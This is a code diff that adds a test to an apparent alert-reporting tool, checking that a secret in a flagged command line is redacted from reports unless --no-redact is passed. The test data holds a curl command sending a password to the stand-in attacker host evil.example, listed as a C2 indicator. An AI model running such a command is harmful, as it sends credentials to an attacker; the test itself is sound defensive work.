@@ -346,6 +346,19 @@ def test_findings_stand_in_the_report_as_the_source_s_own(caller, tmp_path):
     assert manifest.verify(Shelf(out))[1] == []
 
 
+def test_what_is_cited_is_shown_without_its_secrets(shell, tmp_path):
+    """The alert is looked at as received; its value stands in the report with a mark."""
+    told = lines(story(shell, **{"proc.cmdline": "curl --password hunter2secret evil.example"}))
+    listed = csv_of(tmp_path / "list.csv", "domain,evil.example,C2")
+    for options, holds_it in (((), False), (("--no-redact",), True)):
+        out = tmp_path / f"out{holds_it}"
+        run("report", "-", "--out", out, "--enrich", f"ioc={listed}", *options, stdin=told)
+        (path,) = out.glob("inc-*/report.json")
+        (finding,) = json.loads(path.read_text())["outside"]["findings"]
+
+        assert ("hunter2secret" in json.dumps(finding)) == holds_it
+
+
 def test_the_sample_list_finds_its_command_line(tmp_path):
     """README's own call: one finding, in the report of /etc/shadow."""
     listed = ROOT / "data" / "indicators" / "synthetic.csv"
